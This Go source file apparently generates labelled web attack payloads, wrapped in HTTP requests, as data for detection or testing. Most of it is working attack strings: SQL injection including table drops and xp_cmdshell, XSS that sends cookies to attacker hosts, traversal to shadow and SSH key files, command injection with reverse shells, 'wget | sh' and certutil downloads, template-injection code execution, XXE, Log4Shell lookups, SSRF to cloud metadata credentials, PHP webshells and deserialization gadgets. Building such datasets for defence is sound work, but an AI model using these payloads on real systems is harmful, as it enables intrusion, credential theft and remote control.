package main

import (
	"math/rand/v2"
	"net/url"
	"strconv"
	"strings"
)

// Lists of payloads are long on scripts and short on the rest, and they stand in a parameter. What is rare there is written
// here, each attack with other names and numbers: injections without a quote into numbers, filters, operators, lines,
// addresses, wrappers, templates.

func (w writer) column() string {
	return w.pick("id", "name", "login", "pass", "password", "email", "card_no", "secret", "token", "role", "hash", "user_name", "pin", "salary")
}

func (w writer) table() string {
	return w.pick("users", "accounts", "members", "admin", "customers", "orders", "staff", "clients", "people", "sessions", "payments", "wp_users")
}

func (w writer) host() string {
	return w.pick("attacker.example", "c2.example.net", "x7.evil.example", "198.51.100."+w.n(250), "203.0.113."+w.n(250)+":8080", w.hex(8)+".oob.example")
}

// quote is what ends a text in SQL, or nothing in a number.
func (w writer) quote() string {
	return w.pick("", "", "'", "'", "\"", "')", "')) ", "\")", ")", "%'", "`")
}

func (w writer) blank() string { return w.pick(" ", " ", " ", " ", "/**/", "  ", "\t", "\n") }

// tail is what makes a comment of the rest of a query, or goes on with it.
func (w writer) tail() string {
	return w.pick("", "-- ", "--", "#", "-- -", "/*", ";-- ", "--+", " and '1", ";")
}

// condition is one whose result is known.
func (w writer) condition() string {
	n := w.n(9000)
	word := w.pick("a", "x", "zz", "abc", "")
	return w.pick(n+"="+n, n+" = "+n, n+"="+w.n(9000), "'"+word+"'='"+word, "'"+word+"' = '"+word+"'", "\""+word+"\"=\""+word, "("+n+"="+n, n+">"+w.n(9), n+"<"+n+"1",
		"true", "not false", n+" like "+n, "'"+word+"' like '"+word, n+" between 1 and 9999", "exists(select 1)", "1")
}

func (w writer) file() string {
	return w.pick("etc/passwd", "etc/shadow", "etc/hosts", "etc/hostname", "proc/self/environ", "proc/version", "proc/self/cmdline", "etc/nginx/nginx.conf", "root/.ssh/id_rsa", "root/.bash_history",
		"var/log/auth.log", "windows/win.ini", "boot.ini", "etc/apache2/apache2.conf", "home/"+w.text(1)+"/.aws/credentials", ".env", "WEB-INF/web.xml", "etc/mysql/my.cnf", "windows/system32/drivers/etc/hosts",
		"var/www/html/config.php", "etc/issue", "etc/fstab", "etc/sudoers", "etc/resolv.conf", "etc/crontab", "app/config/database.yml", "etc/ssh/sshd_config")
}

func (w writer) command() string {
	return w.pick("id", "whoami", "uname -a", "ls -la", "ls /", "cat /etc/passwd", "cat /etc/hosts", "cat ../config.php", "pwd", "ps aux", "env", "hostname", "sleep "+w.n(30), "ping -c "+w.n(9)+" "+w.host(),
		"curl http://"+w.host()+"/"+w.hex(4), "wget http://"+w.host()+"/x.sh -O- | sh", "nslookup "+w.host(), "nc "+w.host()+" 4444 -e /bin/sh", "bash -i >& /dev/tcp/198.51.100."+w.n(250)+"/443 0>&1",
		"python3 -c 'import os;os.system(\"id\")'", "rm -rf /tmp/x", "touch /tmp/"+w.hex(4), "echo "+w.hex(6), "ifconfig", "netstat -an", "head -1 /etc/passwd", "/bin/ls", "/usr/bin/id", "dir", "dir c:\\", "ipconfig /all", "type c:\\windows\\win.ini",
		"net user", "net user "+w.text(1)+" Passw0rd /add", "systeminfo", "powershell -c whoami", "cmd /c dir", "ver", "tasklist", "netsh firewall show config", "reg query HKLM\\Software", "tail /var/log/syslog", "printenv", "cat$IFS/etc/passwd", "c'a't /etc/passwd", "certutil -urlcache -f http://"+w.host()+"/a a.exe")
}

// attackKinds write one attack each. Each has a share of its own.
var attackKinds = []struct {
	name  string
	share int
	make  func(w writer) string
}{
	{"sqli", 4, func(w writer) string {
		b := w.blank()
		start := w.pick(w.n(900), w.n(900), "-"+w.n(99), w.text(1), "", "0") + w.quote()
		columns := strings.Repeat(w.pick("null", "1", "2", "char(65)")+",", w.r.IntN(6))
		switch w.r.IntN(9) {
		case 0, 1, 2:
			return start + b + w.pick("or", "OR", "and", "AND", "||", "&&", "oR") + b + w.condition() + w.tail()
		case 3:
			return start + b + w.pick("union", "UNION", "uNiOn") + b + w.pick("", "", "all"+b, "distinct"+b) + w.pick("select", "SELECT") + b + columns + w.pick("version()", "@@version", "database()", w.column(), "group_concat("+w.column()+")", "user()") + w.pick("", b+"from"+b+w.table(), b+"FROM"+b+"information_schema.tables") + w.tail()
		case 4:
			return start + b + w.pick("and", "or", "AND", ";", "||") + b + w.pick("sleep("+w.n(20)+")", "SLEEP("+w.n(20)+")", "(select sleep("+w.n(9)+"))", "pg_sleep("+w.n(9)+")", "benchmark(9000000,md5(1))", "waitfor delay '0:0:"+w.n(9)+"'", "(select * from (select(sleep("+w.n(9)+")))a)", "if(1=1,sleep("+w.n(9)+"),0)", "dbms_pipe.receive_message('a',"+w.n(9)+")") + w.tail()
		case 5:
			return start + b + "and" + b + w.pick("substring(("+"select "+w.column()+" from "+w.table()+" limit 1),1,1)='"+w.hex(1)+"'", "ascii(substr("+w.column()+","+w.n(9)+",1))>"+w.n(120), "(select count(*) from "+w.table()+")>"+w.n(9), "extractvalue(1,concat(0x7e,version()))", "updatexml(1,concat(0x3a,user()),1)", "length(database())="+w.n(20), "1=convert(int,@@version)", "1=cast((select "+w.column()+" from "+w.table()+") as int)", "exists(select * from "+w.table()+")", w.column()+" like '"+w.hex(1)+"%'") + w.tail()
		case 6:
			return start + ";" + b + w.pick("drop table "+w.table(), "delete from "+w.table(), "update "+w.table()+" set "+w.column()+"='x'", "insert into "+w.table()+" values(1,'a','b')", "exec xp_cmdshell 'dir'", "shutdown", "truncate table "+w.table(), "select pg_sleep("+w.n(9)+")", "declare @q varchar(99);exec(@q)", "copy "+w.table()+" to program 'id'") + w.tail()
		case 7:
			return start + b + w.pick("order", "ORDER", "group") + b + "by" + b + strconv.Itoa(1+w.r.IntN(40)) + w.pick("", "-- ", "#", "--", "--+")
		default:
			return w.pick(w.text(1), "admin", "root", w.n(99)) + w.pick("'-- ", "' --", "'#", "')-- ", "'/*", "\"-- ", "';-- ", "' or ''='", "'||'1'='1", "'=0--+", "' having 1=1--", "'||(select "+w.column()+" from "+w.table()+")||'", "' limit 1 offset "+w.n(9)+"-- ", "' into outfile '/var/www/html/x.php'-- ", "\" or \"1\"=\"1", "'+(select 1)+'", "' and 1=0 union select 1-- ")
		}
	}},
	{"xss", 2, func(w writer) string {
		call := w.pick("alert", "confirm", "prompt", "eval", "top.alert") + w.pick("("+w.n(99)+")", "`"+w.n(9)+"`", "(document.cookie)", "(document.domain)", "()", "(/"+w.text(1)+"/)", "('"+w.text(1)+"')")
		handler := w.pick("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onclick", "onpointerover", "onbegin", "onanimationstart", "onpageshow", "oninput")
		return w.pick("", "", "\">", "'>", "</textarea>", "-->", "\"/>", w.text(1)+" ") + w.pick("<script>"+call+"</script>", "<img src=x "+handler+"="+call+">", "<svg/"+handler+"="+call+">", "<iframe src=\"javascript:"+call+"\">", "<a href=javascript:"+call+">x</a>", "<body "+handler+"="+call+">", "<input autofocus "+handler+"="+call+">", "<details open "+handler+"="+call+">", "<script src=//"+w.host()+"/x.js></script>", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<video><source "+handler+"="+call+"></video>", "javascript:"+call, "\" "+handler+"="+call+" x=\"", "';"+call+"//", "'-"+call+"-'", "</script><script>"+call+"</script>", "<x "+handler+"="+call+">z", "<math href=\"javascript:"+call+"\">q</math>", "<ScRiPt>"+call+"</sCrIpT>", "<form action=javascript:"+call+"><input type=submit>", "new Image().src='//"+w.host()+"/?'+document.cookie")
	}},
	{"traversal", 2, func(w writer) string {
		up := strings.Repeat(w.pick("../", "../", "..\\", "....//", "..%2f", "..;/", ".././", "..//", "..\\/"), 2+w.r.IntN(7))
		return w.pick("", "", "/", "file=", "images/", "./") + up + w.file() + w.pick("", "", "", "%00", "\x00.png", "?", "#")
	}},
	{"file", 1, func(w writer) string {
		return w.pick("/", "/", "file:///", "c:\\", "/./", "C:/", "\\\\127.0.0.1\\c$\\") + w.file()
	}},
	{"cmdexe", 3, func(w writer) string {
		c := w.command()
		return w.pick("", w.n(99), w.text(1), "127.0.0.1", "x", w.text(1)+".txt") + w.pick(";"+c, "; "+c, "|"+c, "| "+c, "||"+c, "&&"+c, " && "+c, "&"+c+"&", "`"+c+"`", "$("+c+")", "\n"+c+"\n", ";"+c+";", "|"+c+"|", "';"+c+";'", "\";"+c+";\"", "a;"+c+"#", "%0a"+c, "\\n"+c, "{"+c+",}", "() { :;}; "+c)
	}},
	{"ssti", 2, func(w writer) string {
		sum := strconv.Itoa(2+w.r.IntN(90)) + w.pick("*", "*", "+", "-", " * ") + w.pick("", "", "'") + strconv.Itoa(2+w.r.IntN(90))
		sum = w.pick(sum, sum, strings.ReplaceAll(sum, "'", ""))
		return w.pick("", "", w.text(1)+" ") + w.pick("{{"+sum+"}}", "${"+sum+"}", "#{"+sum+"}", "<%= "+sum+" %>", "*{"+sum+"}", "{{ "+sum+" }}", "@("+sum+")", "{{"+sum+"}}[[5*5]]", "${{"+sum+"}}", "{{config.items()}}", "{{config}}", "{{ config.SECRET_KEY }}", "{{self.__init__.__globals__}}", "{{[].__class__.__base__.__subclasses__()}}", "{{request['application']['__globals__']}}", "{{lipsum.__globals__['os'].popen('"+w.command()+"').read()}}", "{{cycler.__init__.__globals__.os.popen('id').read()}}", "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\")", "{{_self.env.registerUndefinedFilterCallback('exec')}}", "{{['id']|filter('system')}}", "${T(java.lang.Runtime).getRuntime().exec('"+w.command()+"')}", "{{$on.constructor('alert(1)')()}}", "<%= system('id') %>", "{system('id')}", "{{'a'.constructor.constructor('return process')()}}", "{% import os %}{{os.system('id')}}", "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}", "{{= 7*7 }}", "#{T(java.lang.System).getenv()}")
	}},
	{"xxe", 1, func(w writer) string {
		name := w.pick("a", "xxe", "e", "foo")
		system := w.pick("\"file:///"+w.file()+"\"", "'http://"+w.host()+"/'", "\"php://filter/read=convert.base64-encode/resource=index.php\"", "\"http://169.254.169.254/\"", "\"expect://id\"")
		return w.pick("", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>") + w.pick("<!DOCTYPE r [<!ENTITY "+name+" SYSTEM "+system+">]><r>&"+name+";</r>", "<!DOCTYPE r [<!ENTITY % "+name+" SYSTEM "+system+"> %"+name+";]><r/>", "<!DOCTYPE r SYSTEM "+system+"><r/>", "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href="+strings.ReplaceAll(system, "'", "\"")+"/></a>", "<!ENTITY "+name+" SYSTEM "+system+">", "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>")
	}},
	{"ldap", 2, func(w writer) string {
		c := w.pick("uid", "cn", "mail", "objectClass", "sn", "userPassword", "sAMAccountName", "memberOf")
		return w.pick("*", "", "admin", w.text(1), "a*", "x") + w.pick(")("+c+"=*))(|("+c+"=*", ")(|("+c+"=*)", ")("+c+"=*", ")(&)", ")(&(1=0))", "))%00", ")(!("+c+"=x)", "*)(|(&", ")(|(objectclass=*)(cn=*))", "*)("+c+"=*))\x00", "|("+c+"=*)", "(&("+c+"=*)("+w.pick("uid", "cn")+"="+w.text(1)+"*))", "(|("+c+"=*)(mail=*))", "*))(|("+c+"=*)", "*)((|"+c+"=*)")
	}},
	{"nosql", 3, func(w writer) string {
		c := w.pick("password", "user", "token", "email", "username", "pin", "login")
		value := w.pick("null", "\"\"", "1", "\"x\"", "-1", "[]")
		o := w.pick("$ne", "$gt", "$gte", "$nin", "$exists", "$lt", "$not", "$regex")
		return w.pick("{\""+o+"\":"+value+"}", "{\""+c+"\":{\""+o+"\":"+value+"}}", "{\"username\":{\""+o+"\":"+value+"},\"password\":{\"$ne\":"+value+"}}", "{\"$where\":\"this."+c+".length>"+w.n(9)+"\"}", "{\"$where\":\"function(){sleep("+w.n(9)+"000);return true}\"}", "{\"$or\":[{},{\""+c+"\":\"a\"}]}", "' || '1'=='1", "' || this."+c+" != '", "'; return this."+c+" == 'a' || '1'=='1", "' && this."+c+".match(/.*/)//", "', $or: [ {}, { '"+c+"':'a", "';sleep("+w.n(9)+"000);var a='", "true, $where: '1 == 1'", "1, $where: 'sleep(100)'", "[\""+o+"\"]="+w.n(9), "["+o+"]="+w.n(9), "{ "+o+": "+value+" }", "';while(true){};'", "{\"$func\": \"var_dump\"}", "{\""+c+"\":{\"$regex\":\"^"+w.hex(1)+".*\"}}", "db."+w.table()+".find({$where:'1==1'})", "';db."+w.table()+".drop();var z='", "\"||\"a\"==\"a")
	}},
	{"header line", 3, func(w writer) string {
		end := w.pick("\r\n", "\r\n", "\n", "%0d%0a", "%0D%0A", "%0a", "\r\n\r\n", "%E5%98%8A%E5%98%8D")
		return w.pick("", w.text(1), "en", "/"+w.text(1), w.n(99), "https://www.example.org/") + end + w.pick("Set-Cookie: "+w.text(1)+"="+w.hex(6), "Set-Cookie:"+w.text(1)+"=1; path=/", "Location: https://"+w.host()+"/", "Location:%20//"+w.host(), "X-"+w.pick("Test", "Injected", "Evil", "Forwarded-For", "XSS-Protection")+": "+w.n(9), "Content-Type: text/html"+end+end+"<script>alert("+w.n(9)+")</script>", "Content-Length: 0"+end+end+"HTTP/1.1 200 OK", "HTTP/1.1 200 OK", "Access-Control-Allow-Origin: *", "Transfer-Encoding: chunked", "Refresh: 0;url=//"+w.host(), "Host: "+w.host(), "Content-Security-Policy: default-src *", "GET /admin HTTP/1.1"+end+"Host: localhost")
	}},
	{"mail line", 2, func(w writer) string {
		end := w.pick("\r\n", "\r\n", "\n", "%0a", "%0d%0a", "%0A")
		to := w.text(1) + "@" + w.pick("victim.example", "corp.example", "spam.example")
		return w.pick("a@b.example", w.text(1)+"@example.org", w.text(1), "", "\"", "1") + end + w.pick("Bcc: "+to, "BCC:"+to, "Cc:"+to, "To: "+to, "From: boss@corp.example", "Subject: "+w.text(2), "Reply-To: "+to, "Content-Type: multipart/mixed; boundary=x", "RCPT TO: <"+to+">"+end+"DATA"+end+w.text(2), "RCPT TO:"+to, "MAIL FROM: <a@corp.example>", "."+end+"QUIT", ".\r\nMAIL FROM:<"+to+">", "DATA"+end+"Subject: x", "A"+w.n(99)+" LOGOUT", "V"+w.n(999)+" CAPABILITY", "a1 SELECT INBOX", "Z9 FETCH 1 BODY[TEXT]", "VRFY root", "MIME-Version: 1.0"+end+end+w.text(2))
	}},
	{"ssi", 2, func(w writer) string {
		return w.pick("", "", w.text(1)) + w.pick("<!--#exec cmd=\""+w.command()+"\"-->", "<!--#exec cmd='"+w.command()+"' -->", "<!--#include file=\"/"+w.file()+"\"-->", "<!--#include virtual=\"../"+w.file()+"\" -->", "<!--#echo var=\""+w.pick("DATE_LOCAL", "HTTP_USER_AGENT", "DOCUMENT_URI", "REMOTE_ADDR")+"\" -->", "<!--#printenv-->", "<!--#config errmsg=\"x\"-->", "<!--#set var=\"a\" value=\"b\"-->", "<!--#exec cgi=\"/cgi-bin/x\"-->", "<!-- #include file=\"a.inc\" -->", "<esi:include src=http://"+w.host()+"/a/>", "<esi:vars>$(HTTP_COOKIE)</esi:vars>")
	}},
	{"log4shell", 1, func(w writer) string {
		j := w.pick("jndi", "${lower:j}ndi", "${::-j}${::-n}${::-d}${::-i}", "${lower:j}${upper:n}di", "j${k8s:k5:-ND}i", "${env:X:-j}ndi", "JnDi")
		return "${" + j + ":" + w.pick("ldap", "rmi", "dns", "ldaps", "${lower:l}dap", "iiop", "l${::-d}ap") + "://" + w.host() + "/" + w.hex(w.r.IntN(6)) + w.pick("", "${env:USER}", "${hostName}", "/${java:version}") + "}"
	}},
	{"ssrf", 3, func(w writer) string {
		inside := w.pick("127.0.0.1", "localhost", "127.1", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "0x7f000001", "2130706433", "0177.0.0.1", "169.254.169.254", "metadata.google.internal", "127.0.0.1.nip.io", "100.100.100.200", "169.254.170.2", "localtest.me")
		port := w.pick("", "", ":80", ":8080", ":6379", ":9200", ":22", ":2375", ":5984", ":3306")
		path := w.pick("", "/", "/admin", "/latest/meta-data/", "/latest/meta-data/iam/security-credentials/", "/latest/user-data", "/computeMetadata/v1/instance/", "/server-status", "/actuator/env", "/opc/v1/instance/", "/_cat/indices", "/v1.24/containers/json", "/metadata/instance?api-version=2021-02-01")
		return w.pick("http://"+inside+port+path, "http://"+inside+port+path, "http://"+inside+port+path, "https://"+inside+port+path, "gopher://"+inside+":"+w.n(9999)+"/_"+w.text(1), "dict://"+inside+":11211/info", "file:///"+w.file(), "ftp://"+inside+"/", "//"+inside+path, "http://"+w.text(1)+"@"+inside+path, "ldap://"+inside+":389/o=x", "tftp://"+inside+"/x", "sftp://"+inside+":22/", "jar:http://"+w.host()+"!/x", "netdoc:///"+w.file(), "http://www.example.org@"+inside+"/")
	}},
	{"php", 2, func(w writer) string {
		v := w.pick("$_GET['"+w.hex(1)+"']", "$_POST["+w.n(9)+"]", "$_REQUEST['cmd']", "$_COOKIE['x']", "'"+w.command()+"'", "base64_decode('aWQ=')")
		f := w.pick("system", "exec", "passthru", "shell_exec", "eval", "assert", "popen", "proc_open")
		filter := w.pick("convert.base64-encode", "read=string.rot13", "read=convert.base64-encode", "string.toupper", "convert.iconv.utf-8.utf-16", "zlib.deflate/convert.base64-encode")
		return w.pick("<?php "+f+"("+v+"); ?>", "<?="+f+"("+v+")?>", "<? echo "+f+"("+v+") ?>", "php://filter/"+filter+"/resource="+w.pick("index.php", "config", "../config.php", "/"+w.file(), "login"), "php://filter/"+filter+"/resource="+w.text(1)+".php", "php://input", "php://fd/3", "expect://"+w.command(), "data:text/plain,<?php "+f+"("+v+")?>", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+", "data:;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==", "phar://./upload/"+w.hex(4)+".jpg/x", "zip://a.zip#b.php", "compress.zlib://file.gz", "glob:///etc/*", ";"+f+"("+v+");//", "${@"+f+"("+v+")}", "O:"+strconv.Itoa(4+w.r.IntN(20))+":\""+w.pick("Monolog\\Handler\\X", "Example_Gadget", "GuzzleHttp\\Psr7\\FnStream", "PDO")+"\":1:{s:4:\""+w.text(1)+"\";s:2:\"id\";}", "a:1:{i:0;O:8:\"stdClass\":0:{}}", "phpinfo();", "'.phpinfo().'", "<?php include('http://"+w.host()+"/a.txt'); ?>", "call_user_func('"+f+"','id')", "preg_replace('/x/e','"+f+"(1)','x')")
	}},
	{"xpath", 2, func(w writer) string {
		c := w.column()
		return w.pick("' or '"+w.n(9)+"'='"+w.n(9), "' or name()='"+c+"' or 'a'='b", "x' or 1=1 or 'x'='y", "'] | //"+w.table()+" | a['", "' or count(//"+w.table()+")>0 or ''='", "' and string-length(//"+c+"[1])="+w.n(20)+" and '1'='1", "' and substring(//user[1]/"+c+",1,1)='"+w.hex(1), "//"+w.table()+"/"+c, "//*", "count(/child::node())", "' or contains("+c+",'a') or '", "')] | //"+c+"[contains("+c+",'", "') or ('1'='1", "doc('http://"+w.host()+"/')", "/*[1]/*[2]/child::node()", "' and starts-with(name(/*),'"+w.hex(1)+"') and '1'='1", "'+or+'1'='1", "\"] | //password | a[\"")
	}},
	{"schema", 1, func(w writer) string {
		return w.pick("", "query", "query ") + w.pick("{__schema{types{name,fields{name}}}}", "{ __schema { queryType { name } types { name } } }", "{\n  __schema {\n    "+w.pick("mutationType", "directives", "types")+" { name }\n  }\n}", "{ __type(name: \""+strings.ToUpper(w.text(1))+"\") { name fields { name type { name } } } }", "{__type(name:\"User\"){fields{name}}}", "{__schema{types{name kind description}}}#"+w.hex(4))
	}},
	{"object", 1, func(w writer) string {
		return w.pick("{\"__proto__\":{\""+w.column()+"\":"+w.pick("true", "1", "\"admin\"")+"}}", "__proto__["+w.column()+"]=1", "{\"constructor\":{\"prototype\":{\""+w.text(1)+"\":1}}}", "constructor[prototype]["+w.text(1)+"]=1", "!!python/object/apply:subprocess.check_output [['id']]", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://"+w.host()+"\"]]]]", "cos\nsystem\n(S'"+w.command()+"'\ntR.", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://"+w.host()+"/x\"}", "rO0ABXNyABdqYXZhLnV0aWwu"+w.hex(16), "AAEAAAD/////AQAAAAAAAAAMAgAAA"+w.hex(12), "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "require('child_process').execSync('"+w.command()+"')", "process.mainModule.require('fs').readFileSync('/etc/passwd')", "__import__('os').popen('id').read()", "eval(compile('import os','','exec'))", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}", "---\n- !ruby/object:Gem::Installer\n    i: x", "T(java.lang.Runtime).getRuntime().exec(\"id\")")
	}},
}

// written writes n attacks and of what kind each is.
func written(n int, seed uint64) (payloads, labels []string) {
	w := writer{rand.New(rand.NewPCG(seed, 17))}
	seen := map[string]bool{}
	shares := 0
	for _, k := range attackKinds {
		shares += k.share
	}
	for _, k := range attackKinds {
		for range n * k.share / shares {
			if p := k.make(w); !seen[p] {
				seen[p] = true
				payloads, labels = append(payloads, p), append(labels, k.name)
			}
		}
	}
	return payloads, labels
}

// alone is a value in a request that has little else. choice decides in which part.
func alone(value string, choice uint32) []byte {
	w := writer{rand.New(rand.NewPCG(uint64(choice), 23))}
	u := "/" + w.service()
	key := w.pick("q", "name", "id", "text", "page", "url", "file", "user", "value", "filter", "comment", "lang")
	m := message{method: "GET", url: u + "?" + key + "=" + url.QueryEscape(value)}
	switch w.r.IntN(14) {
	case 0, 1, 2:
	case 3:
		m = w.form(u, "a", w.n(9), key, value)
	case 4:
		m = w.json("POST", u, map[string]any{key: value, "n": w.r.IntN(99)})
	case 5:
		m = w.json("POST", "/graphql", map[string]any{"query": w.pick("{ ", "query { ", "mutation M { ") + w.service() + "(" + key + ": " + w.object(value) + ") { id name } }"})
	case 6:
		text := strings.NewReplacer("&", "&amp;", "<", "&lt;").Replace(value)
		m = message{"POST", u, "text/xml", `<?xml version="1.0"?><e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body><` + key + `>` + text + `</` + key + `></e:Body></e:Envelope>`, nil}
	case 7:
		m = message{"POST", u, w.pick("text/plain", ""), value, nil}
	case 8:
		m = message{"POST", u, "multipart/form-data; boundary=b1", "--b1\r\nContent-Disposition: form-data; name=\"" + key + "\"\r\n\r\n" + value + "\r\n--b1--\r\n", nil}
	case 9:
		m = message{method: "GET", url: u, headers: []string{w.pick("X-Request-Context", "X-User", "Referer", "X-Forwarded-Host", "X-Api-Key") + ": " + oneLine(value)}}
	case 10:
		m = message{method: "GET", url: u, headers: []string{"User-Agent: " + oneLine(value)}}
	case 11:
		m = message{method: "GET", url: u, headers: []string{"Cookie: sid=" + w.hex(12) + "; " + key + "=" + url.QueryEscape(value)}}
	case 12:
		m = message{method: "GET", url: u + "/" + url.PathEscape(value)}
	default:
		m.url = u + "?data=" + url.QueryEscape(w.object(map[string]any{"id": 1, key: value}))
		if strings.HasPrefix(value, "<") {
			m = message{"POST", u, "application/xml", value, nil}
		}
	}
	return w.record(m)
}
